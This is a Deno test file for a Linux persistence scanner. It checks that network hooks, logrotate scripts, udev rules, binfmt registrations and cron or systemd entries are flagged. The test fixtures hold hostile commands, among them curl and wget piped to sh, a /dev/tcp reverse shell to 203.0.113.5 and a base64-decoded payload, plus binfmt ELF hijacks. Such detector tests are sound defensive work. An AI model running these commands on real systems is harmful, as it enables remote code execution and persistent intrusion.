/**
 * Event hooks: network dispatcher and hook scripts, logrotate scripts, udev rules in package directories and
 * binfmt_misc registrations fire on payloads, untrusted places and unpackaged files, and stay quiet on what
 * their runners would not run and on packaged files.
 */
import assert from "node:assert/strict";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { makeTree, runOne } from "../helpers.ts";
import { dpkgOwns, summary, withAccounts } from "./persistence_fixtures.ts";

const EXEC = 0o755;
const CURL = "curl -fsSL http://203.0.113.5/x | sh";
/** The first bytes of an x86-64 ELF executable: enough for the scanner to know this system's programs. */
const ELF_HEAD = new Uint8Array([
  0x7f,
  0x45,
  0x4c,
  0x46,
  2,
  1,
  1,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  0,
  2,
  0,
  0x3e,
  0,
  1,
  0,
  0,
  0,
]);

Deno.test("persistence hooks: network dispatcher, if-up.d, ppp, dhclient and interfaces commands fire", async () => {
  using root = makeTree(withAccounts({
    "etc/NetworkManager/dispatcher.d/99-up": { content: `#!/bin/sh\n${CURL}\n`, mode: EXEC },
    "etc/network/if-up.d/ntp-sync": { content: "#!/bin/sh\n/var/tmp/.n/agent &\n", mode: EXEC },
    "etc/network/interfaces": "auto eth0\niface eth0 inet dhcp\n    post-up /dev/shm/x \\\n      --quiet\n",
    "etc/ppp/ip-up.d/0vpn": {
      content: "#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n",
      mode: EXEC,
    },
    "etc/dhcp/dhclient-exit-hooks.d/hook": "echo ZWNobyBoaQ== | base64 -d | sh\n",
    "etc/networkd-dispatcher/routable.d/50-x": {
      content: "#!/bin/sh\nwget -qO- http://203.0.113.5/n | sh\n",
      mode: EXEC,
    },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  assert.deepEqual(summary(r.findings), [
    "critical persistence.command.reverse_shell /etc/ppp/ip-up.d/0vpn",
    "high persistence.command.download_exec /etc/NetworkManager/dispatcher.d/99-up",
    "high persistence.command.download_exec /etc/networkd-dispatcher/routable.d/50-x",
    "high persistence.command.encoded_payload /etc/dhcp/dhclient-exit-hooks.d/hook",
    "high persistence.command.untrusted_path /etc/network/if-up.d/ntp-sync",
    "high persistence.command.untrusted_path /etc/network/interfaces",
  ]);
  const iface = r.findings.find((f) => f.metadata.path === "/etc/network/interfaces")!;
  assert.deepEqual([iface.metadata.line, iface.metadata.command], [3, "/dev/shm/x --quiet"]);
  assert.equal(iface.metadata.technique, "T1546");
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence hooks: what the runners skip, masked and packaged dispatcher scripts stay quiet", async () => {
  using root = makeTree(withAccounts({
    "etc/network/if-up.d/bad.name": { content: `#!/bin/sh\n${CURL}\n`, mode: EXEC },
    "etc/network/if-up.d/ethtool": { content: "#!/bin/sh\n/usr/sbin/ethtool -s eth0 wol g\n", mode: EXEC },
    "etc/NetworkManager/dispatcher.d/20-noexec": { content: `#!/bin/sh\n${CURL}\n`, mode: 0o644 },
    "etc/NetworkManager/dispatcher.d/21-groupwritable": { content: `#!/bin/sh\n${CURL}\n`, mode: 0o775 },
    "etc/NetworkManager/dispatcher.d/30-masked": { symlink: "/dev/null" },
    "usr/lib/NetworkManager/dispatcher.d/30-masked": { content: "#!/bin/sh\n/tmp/x\n", mode: EXEC },
    "usr/lib/NetworkManager/dispatcher.d/01-ifupdown": {
      content: "#!/bin/sh\nrun-parts /etc/network/if-up.d\n",
      mode: EXEC,
    },
    ...dpkgOwns("network-manager", ["/usr/lib/NetworkManager/dispatcher.d/01-ifupdown"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), []);
  assert.deepEqual(r.warnings, []);
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const skipped = Object.fromEntries(
    inv.findings.filter((f) =>
      f.check_id === "persistence.inventory.point" && f.metadata.kind === "network_hook"
    ).map((
      f,
    ) => [f.metadata.path, f.metadata.skipped ?? null]),
  );
  assert.deepEqual(skipped, {
    "/etc/network/if-up.d/bad.name": "name run-parts skips",
    "/etc/network/if-up.d/ethtool": null,
    "/etc/NetworkManager/dispatcher.d/20-noexec": "not executable",
    "/etc/NetworkManager/dispatcher.d/21-groupwritable":
      "not root-owned, or writable by group or others, or set-id: the dispatcher refuses it",
    "/usr/lib/NetworkManager/dispatcher.d/01-ifupdown": null,
  });
});

Deno.test("persistence hooks: a dispatcher script no package installed, under /usr/lib, is reported", async () => {
  using root = makeTree(withAccounts({
    "usr/lib/NetworkManager/dispatcher.d/30-sync": { content: "#!/bin/sh\nlogger -t nm up\n", mode: EXEC },
    ...dpkgOwns("network-manager", ["/usr/lib/NetworkManager/dispatcher.d/01-ifupdown"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "medium persistence.hook.unpackaged /usr/lib/NetworkManager/dispatcher.d/30-sync",
  ]);
  assert.match(r.findings[0].description, /no dpkg package installed it/);
});

Deno.test("persistence hooks: logrotate scripts are judged line by line, included files and hidden ones too", async () => {
  const stock =
    "/var/log/nginx/*.log {\n\tdaily\n\tpostrotate\n\t\tinvoke-rc.d nginx rotate >/dev/null 2>&1\n" +
    "\tendscript\n}\n";
  using root = makeTree(withAccounts({
    "etc/logrotate.conf": "weekly\nrotate 4\ninclude /etc/logrotate.d\n/var/log/wtmp {\n    monthly\n}\n",
    "etc/logrotate.d/nginx": stock,
    "etc/logrotate.d/app": "/var/log/app.log\n/var/log/app-err.log\n{\n  weekly\n  postrotate\n" +
      "    systemctl reload app\n    wget -q -O- http://203.0.113.5/r | bash\n  endscript\n}\n",
    "etc/logrotate.d/.cache": "/var/log/x.log {\n  firstaction\n    /tmp/.l/run\n  endscript\n}\n",
    "etc/logrotate.d/app.dpkg-old": `/var/log/y.log {\n  lastaction\n    ${CURL}\n  endscript\n}\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "high persistence.command.download_exec /etc/logrotate.d/app",
    "high persistence.command.untrusted_path /etc/logrotate.d/.cache",
    "high persistence.command.untrusted_path /etc/logrotate.d/.cache",
  ]);
  const hidden = r.findings.filter((f) => f.metadata.path === "/etc/logrotate.d/.cache").map((f) =>
    f.metadata.indicators
  );
  assert.deepEqual(
    hidden,
    [["hidden_path:/etc/logrotate.d/.cache"], ["temp_dir:/tmp/.l/run"]],
    "the file, then its line",
  );
  assert.equal(r.findings.find((f) => f.metadata.path === "/etc/logrotate.d/app")!.metadata.line, 7);
  assert.deepEqual(r.warnings, []);
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const points = inv.findings.filter((f) =>
    f.check_id === "persistence.inventory.point" && f.metadata.kind === "logrotate_script"
  );
  assert.deepEqual(points.map((f) => [f.metadata.path, f.metadata.inert ?? false]).sort(), [
    ["/etc/logrotate.d/.cache", false],
    ["/etc/logrotate.d/app", false],
    ["/etc/logrotate.d/app.dpkg-old", true],
    ["/etc/logrotate.d/nginx", false],
  ]);
  assert.deepEqual(points.find((f) => f.metadata.path === "/etc/logrotate.d/app")!.metadata.scripts, [
    "postrotate@5 /var/log/app.log /var/log/app-err.log",
  ]);
});

Deno.test("persistence hooks: logrotate files nothing includes are inert; malformed ones are a warning", async () => {
  using root = makeTree(withAccounts({
    "etc/logrotate.conf": "weekly\n",
    "etc/logrotate.d/app": `/var/log/a.log {\n  postrotate\n    ${CURL}\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), []);
  assert.deepEqual(r.warnings.map((w) => w.code), ["logrotate_malformed"]);
  assert.match(r.warnings[0].detail!, /without endscript/);
});

Deno.test("persistence hooks: udev rules that run programs in /usr/lib need a package; relative names follow /lib/udev", async () => {
  using root = makeTree(withAccounts({
    "usr/lib/udev/rules.d/50-ok.rules": 'SUBSYSTEM=="block", RUN+="/usr/bin/true"\n',
    "usr/lib/udev/rules.d/99-usb-sync.rules": 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/usr/bin/logger usb"\n',
    "usr/lib/udev/rules.d/10-names.rules": 'KERNEL=="sd*", ATTRS{x}=="y"\n',
    "lib/udev/rules.d/70-legacy.rules": 'KERNEL=="sd*", IMPORT{program}="legacy_id %k"\n',
    "lib/udev/legacy_id": { content: "#!/bin/sh\n", mode: EXEC },
    "lib/udev/rules.d/80-helper.rules": 'KERNEL=="sd*", RUN+="/lib/udev/disk-helper %k"\n',
    "lib/udev/disk-helper": { content: "#!/bin/sh\n", mode: EXEC },
    ...dpkgOwns("udev", [
      "/usr/lib/udev/rules.d/50-ok.rules",
      "/lib/udev/rules.d/70-legacy.rules",
      "/lib/udev/legacy_id",
      "/lib/udev/rules.d/80-helper.rules",
    ]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  // A packaged rule that runs a program no package installed: a planted helper behind a stock-looking rule.
  assert.deepEqual(summary(r.findings), [
    "medium persistence.command.unowned_program /lib/udev/rules.d/80-helper.rules",
    "medium persistence.hook.unpackaged /usr/lib/udev/rules.d/99-usb-sync.rules",
  ]);
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const legacy = inv.findings.find((f) => f.metadata.path === "/lib/udev/rules.d/70-legacy.rules")!;
  assert.deepEqual(legacy.metadata.entries, ["/lib/udev/legacy_id %k"]);
  assert.equal(legacy.metadata.technique, "T1546.017");
});

Deno.test("persistence hooks: binfmt registrations that hijack this system's programs or run from untrusted places", async () => {
  using root = makeTree(withAccounts({
    "bin/sh": { content: ELF_HEAD, mode: EXEC },
    "etc/binfmt.d/elf.conf": ":hijack:M::\\x7fELF\\x02\\x01\\x01::/var/tmp/.b/ld:F\n",
    "etc/binfmt.d/scripts.conf": "# every script\n:shebang:M::#!::/usr/local/sbin/wrap:\n",
    "usr/lib/binfmt.d/qemu-aarch64.conf":
      ":qemu-aarch64:M::\\x7fELF\\x02\\x01\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x02\\x00\\xb7\\x00:" +
      "\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\x00\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xff\\xfe\\xff\\xff\\xff:" +
      "/usr/libexec/qemu-binfmt/aarch64-binfmt-P:OCF\n",
    "usr/lib/binfmt.d/extra.conf": ":jar:E::jar::/usr/lib/jvm/.x/java:\n",
    "proc/sys/fs/binfmt_misc/zip": "enabled\ninterpreter /home/bob/.z/unzip\nflags: \nextension .zip\n",
    "proc/sys/fs/binfmt_misc/old": "disabled\ninterpreter /tmp/old\nflags: \nextension .old\n",
    "proc/sys/fs/binfmt_misc/status": "enabled\n",
    ...dpkgOwns("qemu-user-static", [
      "/usr/lib/binfmt.d/qemu-aarch64.conf",
      "/usr/libexec/qemu-binfmt/aarch64-binfmt-P",
    ]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(
    r.findings.map((f) => `${f.severity} ${f.check_id} ${f.metadata.name ?? f.metadata.path}`).sort(),
    [
      "critical persistence.binfmt.native_hijack hijack",
      "high persistence.binfmt.native_hijack shebang",
      "high persistence.binfmt.untrusted_interpreter hijack",
      "high persistence.binfmt.untrusted_interpreter jar",
      "high persistence.binfmt.untrusted_interpreter zip",
      "medium persistence.hook.unpackaged /usr/lib/binfmt.d/extra.conf",
    ],
  );
  const hijack = r.findings.find((f) =>
    f.check_id === "persistence.binfmt.native_hijack" && f.metadata.name === "hijack"
  )!;
  assert.deepEqual(hijack.metadata.matches, ["this system's ELF programs"]);
  assert.equal(hijack.id, "persistence.binfmt.native_hijack:/etc/binfmt.d/elf.conf:hijack");
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence hooks: binfmt lines that are not registrations are a warning, not a finding", async () => {
  using root = makeTree(withAccounts({
    "etc/binfmt.d/bad.conf":
      "not a registration\n:x:Q::ab::/bin/true:\n:y:M:offset:ab::/bin/true:\n\u0000\u00ff\n",
    "etc/binfmt.d/empty.conf": "",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(r.findings, []);
  assert.deepEqual(r.warnings.map((w) => w.code), ["binfmt_malformed"]);
  assert.match(r.warnings[0].detail!, /4 line\(s\)/);
});

Deno.test("persistence: a unit or cron line running a program among the system's own that no package installed", async () => {
  const elf = "\u007fELF\u0002\u0001\u0001\u0000";
  using root = makeTree(withAccounts({
    "etc/systemd/system/syshealthd.service": "[Service]\nExecStart=/usr/bin/syshealthd --daemon\n" +
      "[Install]\nWantedBy=multi-user.target\n",
    "etc/systemd/system/multi-user.target.wants/syshealthd.service": {
      symlink: "/etc/systemd/system/syshealthd.service",
    },
    "usr/bin/syshealthd": { content: elf, mode: EXEC },
    "etc/cron.d/rotate": "0 * * * * root /usr/sbin/logrotate-helper\n",
    "usr/sbin/logrotate-helper": { content: elf, mode: EXEC },
    // Quiet: packaged programs, and local ones where local programs belong (/usr/local, /opt).
    "etc/cron.d/ok": "0 * * * * root /usr/sbin/logrotate /etc/logrotate.conf\n",
    "usr/sbin/logrotate": { content: elf, mode: EXEC },
    "etc/systemd/system/app.service": "[Service]\nExecStart=/opt/app/bin/app\n",
    "opt/app/bin/app": { content: elf, mode: EXEC },
    // update-alternatives' links: the packaged program behind one is fine, a planted one behind another is not.
    "etc/cron.d/which": "* * * * * root /usr/bin/which ls\n* * * * * root /usr/bin/editor x\n",
    "usr/bin/which": { symlink: "/etc/alternatives/which" },
    "etc/alternatives/which": { symlink: "/usr/bin/which.debianutils" },
    "usr/bin/which.debianutils": { content: elf, mode: EXEC },
    "usr/bin/editor": { symlink: "/etc/alternatives/editor" },
    "etc/alternatives/editor": { symlink: "/usr/bin/.ed" },
    "usr/bin/.ed": { content: elf, mode: EXEC },
    ...dpkgOwns("logrotate", ["/usr/sbin/logrotate"]),
    ...dpkgOwns("debianutils", ["/usr/bin/which.debianutils"]),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings).filter((f) => f.includes("unowned_program")), [
    "medium persistence.command.unowned_program /etc/cron.d/rotate",
    "medium persistence.command.unowned_program /etc/cron.d/which",
    "medium persistence.command.unowned_program /etc/systemd/system/syshealthd.service",
  ]);
  const editor = r.findings.find((f) => f.metadata.path === "/etc/cron.d/which")!;
  assert.deepEqual([editor.metadata.program, editor.metadata.resolved], ["/usr/bin/editor", "/usr/bin/.ed"]);
  const unit = r.findings.find((f) => f.metadata.path === "/etc/systemd/system/syshealthd.service")!;
  assert.equal(unit.metadata.program, "/usr/bin/syshealthd");
});
